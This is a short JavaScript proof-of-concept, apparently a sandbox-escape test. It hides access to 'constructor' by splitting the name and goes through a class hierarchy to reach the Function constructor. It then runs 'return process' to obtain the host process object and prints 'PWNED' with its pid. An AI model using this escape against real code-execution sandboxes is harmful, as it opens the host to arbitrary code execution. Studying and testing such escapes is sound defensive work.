'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class B { constructor() { return t; } }
class D extends B {}
const o = Date.now() > 1 ? new D() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
